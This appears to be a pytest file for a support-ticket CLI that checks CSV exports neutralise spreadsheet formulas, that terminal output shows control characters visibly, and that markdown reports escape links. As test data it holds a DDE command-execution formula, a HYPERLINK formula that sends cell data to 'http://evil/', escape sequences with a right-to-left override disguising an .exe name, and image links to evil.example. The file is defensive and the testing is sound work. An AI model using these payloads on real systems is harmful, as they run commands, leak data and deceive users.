"""Issue 10, items 16 and 17: output that other programs open. CSV cells never run as formulas in a
spreadsheet; stored control characters never reach a terminal as escape sequences; a markdown report
shows a subject's markdown as text. JSON stays exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

from supportctl.csvsafe import Number, csv_text, safe_cell

SUBJECT = "=cmd|' /C calc'!A0"
ORG = '=HYPERLINK("http://evil/?"&A1,"x")'


def rows_of(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("value", ["=1+1", "+7 495", "-2", "@SUM(A1)", "\t=1", "\r=1", SUBJECT, ORG])
def test_a_cell_a_spreadsheet_would_run_is_prefixed_issue10_item16(value):
    assert safe_cell(value) == "'" + value
    assert rows_of(csv_text([[value]])) == [["'" + value]]


def test_plain_cells_and_the_tools_own_numbers_stay_as_they_are_issue10_item16():
    """Numbers the tool writes as numbers stay bare, a negative one too, so spreadsheets compute with them;
    the same text from a person is neutralised."""
    assert rows_of(csv_text([["a=b", "Ромашка", 5, -3, 1.5, Number("-90"), "-90", ""]])) == \
        [["a=b", "Ромашка", "5", "-3", "1.5", "-90", "'-90", ""]]


def test_list_csv_neutralises_subject_and_org_and_json_stays_exact_issue10_item16(cli):
    tid = cli("new", "--subject", SUBJECT, "--text", "x", "--org", ORG).stdout.strip()
    rows = rows_of(cli("list", "--format", "csv").stdout)
    row = dict(zip(rows[0], rows[1]))
    assert row["id"] == tid and row["subject"] == "'" + SUBJECT and row["org"] == "'" + ORG
    shown = json.loads(cli("list", "--json").stdout)[0]
    assert (shown["subject"], shown["org"]) == (SUBJECT, ORG)


@pytest.mark.parametrize("report", ["journal", "customer"])
def test_report_csv_neutralises_stored_text_issue10_item16(cli, report):
    cli("new", "--subject", SUBJECT, "--text", "@x", "--org", ORG)
    args = ["report", report, *([ORG] if report == "customer" else []), "--all", "--format", "csv"]
    result = cli(*args)
    assert result.exit_code == 0, result.stderr
    cells = [c for row in rows_of(result.stdout) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert any(c.startswith("'=") for c in cells)
    data = json.dumps(json.loads(cli(*args[:-1], "json").stdout), ensure_ascii=False)
    assert json.dumps(SUBJECT, ensure_ascii=False)[1:-1] in data


# -- item 17 ---------------------------------------------------------------------------------------

EVIL = "Счёт \x1b]0;pwned\x07\x1b[2J\x9b31m\u202egnp.exe\r"


def test_list_show_and_journal_print_control_characters_visibly_issue10_item17(cli, desk):
    tid = cli("new", "--subject", "Счёт", "--text", "line one\r\n\x1b[31mred\n", "--org", "Org").stdout.strip()
    # the CLI refuses control characters in one-line values; they come by import or a hand edit
    ticket = desk.load_ticket(tid)
    ticket.subject, ticket.org = EVIL, "\x1b[1mOrg"
    desk.save_ticket(ticket)
    r = cli("note", tid, "see \x1b[5mblink")
    assert r.exit_code == 0, r.stderr
    for args in (["list"], ["show", tid], ["journal", tid]):
        out = cli(*args).stdout
        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\r" not in out, (args, out)
        assert "\u202e" not in out
    shown = cli("show", tid).stdout
    assert "␛]0;pwned␇␛[2J\\x9b31m<U+202E>gnp.exe" in shown and "line one\n␛[31mred" in shown
    assert "see ␛[5mblink" in cli("journal", tid).stdout  # a free text keeps its characters, shown visibly
    assert json.loads(cli("show", tid, "--json").stdout)["subject"] == EVIL  # JSON stays exact


def test_the_markdown_report_shows_a_subjects_markdown_as_text_issue10_item17(cli):
    cli("new", "--subject", "![x](http://evil.example/t.png) [click](http://evil.example) <img src=x>",
        "--text", "x")
    md = cli("report", "journal", "--all", "--format", "markdown").stdout
    assert "![x](" not in md and "\\!\\[x\\](http://evil.example/t.png)" in md
    assert "[click](" not in md and "<img" not in md and "&lt;img src=x&gt;" in md
    page = cli("report", "journal", "--all", "--format", "html").stdout
    assert "<img" not in page and "&lt;img src=x&gt;" in page  # the HTML report escapes already
